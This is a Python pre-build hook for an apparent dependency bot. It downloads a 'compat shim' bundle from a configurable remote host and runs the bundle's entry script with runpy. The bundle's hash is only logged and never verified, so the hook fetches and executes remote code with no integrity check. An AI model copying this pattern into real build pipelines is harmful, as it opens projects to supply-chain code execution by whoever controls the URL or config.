#!/usr/bin/env python3
"""Pre-build hook for the dependency bot's compatibility checks.

Before the bot runs the test suite against bumped dependencies it fetches
the current "compat shim" bundle, which patches known-broken upstream
releases, and applies it to the environment.  The bundle location is taken
from the bot config so it can be rotated without a code change.
"""
import argparse
import configparser
import hashlib
import io
import logging
import os
import runpy
import sys
import tarfile
import tempfile
from pathlib import Path

import httpx

DEFAULT_CFG = """
[shim]
index = https://compat-shims.depbot-cdn.dev/latest/manifest.txt
entry = apply_shims.py
channel = stable
"""

logger = logging.getLogger("compat-shim")


class ShimConfig:
    def __init__(self, path: Path | None):
        cp = configparser.ConfigParser()
        cp.read_string(DEFAULT_CFG)
        if path and path.exists():
            cp.read(path)
        self.index = cp.get("shim", "index")
        self.entry = cp.get("shim", "entry")
        self.channel = cp.get("shim", "channel")


class ShimBundle:
    def __init__(self, client: httpx.Client, cfg: ShimConfig):
        self.client = client
        self.cfg = cfg
        self.url = None
        self.data = b""

    def locate(self) -> str:
        resp = self.client.get(self.cfg.index, params={"channel": self.cfg.channel})
        resp.raise_for_status()
        for line in resp.text.splitlines():
            line = line.strip()
            if line and not line.startswith("#") and line.endswith(".tar.gz"):
                self.url = httpx.URL(self.cfg.index).join(line)
                return str(self.url)
        raise LookupError("manifest lists no bundle")

    def download(self) -> bytes:
        resp = self.client.get(self.url)
        resp.raise_for_status()
        self.data = resp.content
        logger.info("bundle %s (%d bytes, sha256 %s)", self.url, len(self.data),
                    hashlib.sha256(self.data).hexdigest()[:12])
        return self.data

    def unpack(self, dest: Path) -> Path:
        with tarfile.open(fileobj=io.BytesIO(self.data), mode="r:gz") as tf:
            tf.extractall(dest, filter="data")
        candidates = list(dest.rglob(self.cfg.entry))
        if not candidates:
            raise FileNotFoundError(f"{self.cfg.entry} not in bundle")
        return candidates[0]


def apply(entry: Path, site: str) -> dict:
    sys.path.insert(0, str(entry.parent))
    os.environ["COMPAT_SHIM_SITE"] = site
    logger.info("applying shims from %s", entry.name)
    return runpy.run_path(str(entry), run_name="__main__")


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", type=Path, default=Path(".depbot/shim.ini"))
    ap.add_argument("--site", default=next((p for p in sys.path if p.endswith("site-packages")), ""))
    ap.add_argument("--timeout", type=float, default=30.0)
    ap.add_argument("--keep", action="store_true", help="keep the unpacked bundle")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="[shim] %(message)s")

    cfg = ShimConfig(args.config)
    workdir = Path(tempfile.mkdtemp(prefix="shim-"))
    try:
        with httpx.Client(timeout=args.timeout, follow_redirects=True) as client:
            bundle = ShimBundle(client, cfg)
            bundle.locate()
            bundle.download()
        entry = bundle.unpack(workdir)
        result = apply(entry, args.site)
        patched = result.get("PATCHED", [])
        logger.info("%d package(s) patched: %s", len(patched), ", ".join(patched) or "-")
    except (httpx.HTTPError, LookupError, FileNotFoundError, tarfile.TarError) as exc:
        logger.error("shim step failed: %s", exc)
        return 1
    finally:
        if not args.keep:
            import shutil
            shutil.rmtree(workdir, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
